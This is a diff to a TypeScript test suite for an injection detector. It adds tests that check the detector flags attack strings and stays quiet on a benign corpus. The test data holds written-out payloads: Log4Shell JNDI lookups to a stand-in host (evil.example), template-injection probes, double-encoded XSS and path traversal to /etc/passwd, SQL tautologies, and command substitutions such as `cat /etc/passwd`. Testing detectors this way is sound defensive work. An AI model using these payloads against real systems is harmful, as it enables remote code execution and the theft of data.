@@ -284,6 +284,29 @@ describe('bad input table: always a ValidationError, never a crash', () => {
 describe('detectInjection', () => {
   const kinds = (value: unknown) => [...new Set(detectInjection(value).map((s) => s.kind))].sort();
 
+  it('flags ${jndi:, template injection, double encoding and 1 OR 1=1', () => {
+    for (const payload of ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x/a}', '${env:X:-j}${jndi:dns://x}']) expect(kinds(payload), payload).toContain('jndi');
+    for (const payload of ['{{7*7}}', '{{ config.items() }}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{''.__class__}}"]) expect(kinds(payload), payload).toContain('template');
+    expect(kinds('%253Cscript%253Ealert(1)%253C/script%253E')).toEqual(expect.arrayContaining(['encoding', 'xss']));
+    expect(kinds('..%252f..%252fetc%252fpasswd')).toEqual(expect.arrayContaining(['encoding', 'path-traversal']));
+    expect(kinds('1 OR 1=1')).toContain('sql');
+    expect(kinds("x' or 'a'='a")).toContain('sql');
+    expect(kinds('$(whoami)')).toContain('command');
+    expect(kinds('`cat /etc/passwd`')).toContain('command');
+  });
+
+  // A benign corpus: known false positives are the ones listed in the README, none of these.
+  it('stays quiet on a benign corpus (price is $(5), Markdown code, templates in prose, percentages)', () => {
+    const benign = [
+      'price is $(5)', 'costs $(5.99) after tax', 'use `npm install` then `npm test`', 'see `README.md`', 'Hello {{name}}, welcome!',
+      '{{ user.firstName }}', '100% sure', '50%25 off', 'a=1&b=2', 'O Reilly or 2 others', 'It is 1 or 2 = 3 apples', 'Q&A: what is ${price}?',
+      'I paid $5 (five dollars)', 'email me at jane@example.com', 'https://example.com/a?b=c#d', 'C:\\Users\\jane\\docs', 'rock & roll; live',
+      '#{hashtag}', 'Mix 2 cups (flour) + 1 cup water', 'version 1.2.3-beta+build.5', 'ratio 3/4 or 0.75', "don't stop -- keep going",
+    ];
+    const flagged = benign.filter((text) => detectInjection(text).length > 0).map((text) => `${text} → ${JSON.stringify(detectInjection(text))}`);
+    expect(flagged).toEqual([]);
+  });
+
   it('flags typical payloads', () => {
     expect(kinds("' OR '1'='1")).toContain('sql');
     expect(kinds('1 UNION SELECT password FROM users')).toContain('sql');
